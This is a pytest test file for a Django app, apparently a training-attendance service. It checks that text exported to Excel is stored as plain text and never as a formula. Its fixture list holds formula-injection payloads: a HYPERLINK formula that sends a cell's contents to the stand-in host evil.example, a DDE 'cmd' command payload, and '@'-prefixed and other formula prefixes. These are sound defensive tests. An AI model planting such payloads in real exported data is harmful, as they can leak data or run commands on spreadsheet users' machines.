"""Issue 14 §1.6: no exported text runs as a formula in the agent's spreadsheet."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from remu.core.tabular import safe_append

from . import factories as f

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+33 cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def roundtrip(book) -> Workbook:
    buffer = io.BytesIO()
    book.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_like_text_is_written_as_text(value):
    book = Workbook()
    safe_append(book.active, ["Nom", value, 12, "4 place du Martroi"])
    cells = roundtrip(book).active[1]
    assert cells[1].value.lstrip() == value.lstrip()  # shown as typed (XML turns CR to LF)
    assert cells[1].data_type == "s" and cells[1].quotePrefix
    assert cells[2].value == 12 and cells[2].data_type == "n"  # numbers stay numbers
    assert not cells[3].quotePrefix


def test_trainee_export_neutralises_an_address_formula(provider_client, provider, region):
    action = f.TrainingActionFactory(region=region, provider=provider)
    enrollment = f.EnrollmentFactory(action=action)
    trainee = enrollment.trainee
    trainee.address_line1 = '=HYPERLINK("http://evil.example","Voir")'
    trainee.address_line2 = "@cmd"
    trainee.save()
    response = provider_client.get(reverse("attendance:trainees_xlsx", args=[action.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    address = sheet.cell(row=2, column=4)
    assert address.value == trainee.address_line1 and address.quotePrefix


def test_import_template_has_no_formula(provider_client):
    response = provider_client.get(reverse("attendance:import_template"))
    book = load_workbook(io.BytesIO(response.content))
    assert not [
        c for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"
    ]
